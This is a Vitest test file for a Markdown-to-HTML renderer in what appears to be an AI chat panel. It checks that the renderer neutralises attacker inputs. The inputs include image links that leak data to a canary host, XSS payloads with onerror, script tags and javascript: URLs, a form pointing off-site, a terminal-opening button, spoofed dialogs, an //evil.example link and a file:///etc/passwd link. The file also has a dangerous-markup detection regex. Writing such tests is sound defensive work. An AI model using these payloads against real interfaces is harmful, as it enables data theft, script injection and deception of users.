import { describe, expect, it } from 'vitest';
import { type Block, renderBlocks } from './blocks';

function html(text: string): string {
  return renderBlocks(text)
    .map((block: Block) => block.html)
    .join('');
}

/** What could fetch, run or imitate something. */
const DANGEROUS =
  /<(?!\/?(?:a|blockquote|br|code|del|div|em|h[1-6]|hr|input|li|m[a-z]+|ol|p|pre|s|span|strong|table|tbody|td|th|thead|tr|ul|semantics|annotation)\b)[a-z]|\bon[a-z]+=|\bsrc=|javascript:|style="(?!text-align:|display:block math;|color:#b22222;)/i;

describe('what an attacker writes', () => {
  it.each([
    ['R-1', '![x](http://canary/?d=SECRET)'],
    ['R-1', '![x][r]\n\n[r]: http://canary/'],
    ['R-1', '[![x](http://canary/1)](http://canary/2)'],
    ['R-2', '<img src=//canary>'],
    ['R-2', '<div style="background:url(//canary)">x</div>'],
    ['R-2', '<iframe src=//canary></iframe>\n\n<object data=//canary></object>'],
    ['R-4', '<img src=x onerror=alert(1)> <svg onload=alert(1)>'],
    ['R-6', '<form action=http://canary><button>go</button></form>'],
    ['R-7', '<button data-commandlinker-command="terminal:create-new">x</button>'],
    ['R-9', '$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{http://canary/i.png}$$'],
    ['R-9', '$\\htmlData{a=b}{x}$ $\\class{jp-Dialog}{x}$ $\\id{x}{y}$ $\\style{position:fixed}{x}$'],
    ['R-9', '$\\text{<img src=x onerror=alert(1)>}$'],
    ['R-11', '<div style="position:fixed;inset:0" class="jp-Dialog">Approved</div>'],
    ['code', '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```'],
    ['code', '- a\n\n  ```"onclick="alert(1)\n  <script>\n  ```'],
    ['a path', '[x](<a"onclick=alert(1)>)'],
    ['a title', '[x](http://h "onclick=alert(1)")'],
    ['a host', '[google.com](http://h"><script>)']
  ])('%s fetches nothing and runs nothing: %s', (_, text) => {
    // Entities stand for text, not for markup
    expect(html(text).replace(/&[a-z#0-9]+;[^<]*/gi, '')).not.toMatch(DANGEROUS);
  });

  it.each([
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](data:text/html,<script>alert(1)</script>)',
    '[a](vbscript:x)',
    '[a](file:///etc/passwd)',
    '[a](//evil.example/x)',
    '[a](/logout)',
    '[a](?reset)',
    '[a](#jp-main)',
    '[a](\\\\evil\\x)',
    '<javascript:alert(1)>',
    '![a](data:image/svg+xml;base64,PHN2Zz4=)'
  ])('R-3: is no link: %s', text => {
    expect(html(text)).not.toMatch(/<a\b|data-path/);
  });

  it('R-5: comes in pieces: the joined text is what counts', () => {
    expect(html(['<scr', 'ipt>alert(1)</scr', 'ipt>'].join(''))).not.toContain('<script');
  });

  it('R-12: is so large or so deep that reading it would hold the page up', () => {
    const cases = ['['.repeat(1_000_000), '*a*'.repeat(50_000), '> '.repeat(500_000), '- '.repeat(500_000)];
    for (const text of cases) {
      const begin = performance.now();
      renderBlocks(text);
      expect(performance.now() - begin).toBeLessThan(1000); // it is 3 to 50 ms; minutes without the limits
    }
    expect(html('*a*'.repeat(50_000)) === `<p>${'*a*'.repeat(50_000)}</p>\n`).toBe(true);
  });

  it('turns the direction of reading round: the characters are shown, not obeyed', () => {
    expect(html('safe\u202etxt.exe \u2066x\u2069')).toBe('<p>safe\ufffdtxt.exe \ufffdx\ufffd</p>\n');
  });
});

describe('emphasis', () => {
  it.each([
    ['**매출(원)**은 늘었어요', '<strong>매출(원)</strong>은 늘었어요'],
    ['이것은**"중요"**합니다', '이것은<strong>&quot;중요&quot;</strong>합니다'],
    ['**매출**을 *비교*해요', '<strong>매출</strong>을 <em>비교</em>해요'],
    ['~~10%~~는 아니에요', '<s>10%</s>는 아니에요'],
    ['**売上（円）**は増えた', '<strong>売上（円）</strong>は増えた'],
    ['2 * 3 * 4 and a*b', '2 * 3 * 4 and a*b'],
    ['df_sales_2024 and __init__', 'df_sales_2024 and <strong>init</strong>']
  ])('of %s', (text, expected) => {
    expect(html(text)).toBe(`<p>${expected}</p>\n`);
  });
});

describe('structure', () => {
  it('has tables that can scroll, with their alignment', () => {
    expect(html('| a | b |\n|---|--:|\n| 1 | 2 |')).toMatch(
      /^<div class="aichat-table"><table>[\s\S]*<td style="text-align:right">2<\/td>[\s\S]*<\/table><\/div>\n$/
    );
  });

  it('has task lists', () => {
    const list = html('- [ ] chart\n- [x] **clean** data\n- [X]nothing\n- a [ ] b');
    expect(list.match(/<input/g)).toHaveLength(2);
    expect(list).toContain('<li><input type="checkbox" class="aichat-task" disabled> chart</li>');
    expect(list).toContain('disabled checked> <strong>clean</strong> data</li>');
  });

  it('keeps code inside of lists where it is, coloured', () => {
    expect(html('1. run\n   ```python\n   x = 1\n   ```')).toContain(
      '<pre class="aichat-code-nested" data-language="python"><code>x = <span class="hljs-number">1</span>\n</code></pre>'
    );
  });
});
